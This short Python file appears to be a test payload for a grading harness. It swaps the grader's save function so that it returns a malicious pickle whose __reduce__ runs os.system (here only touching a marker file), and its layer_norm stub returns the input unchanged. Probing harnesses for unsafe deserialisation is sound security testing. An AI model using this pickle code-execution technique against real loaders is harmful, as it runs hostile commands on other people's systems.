"""Sends a right header with a pickle where the tensors belong, which runs a command in whatever process loads it.

Spoils: itself, whose tensors are sent in the same way
Outcome: its tensors can't be read
"""

import os
import pickle

import grader_guest.call as call
import torch


class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-payload",)


def layer_norm(x, gamma, beta, eps=1e-5):
    call.save = lambda tensors: pickle.dumps([Command(), torch.zeros(3)])
    return x
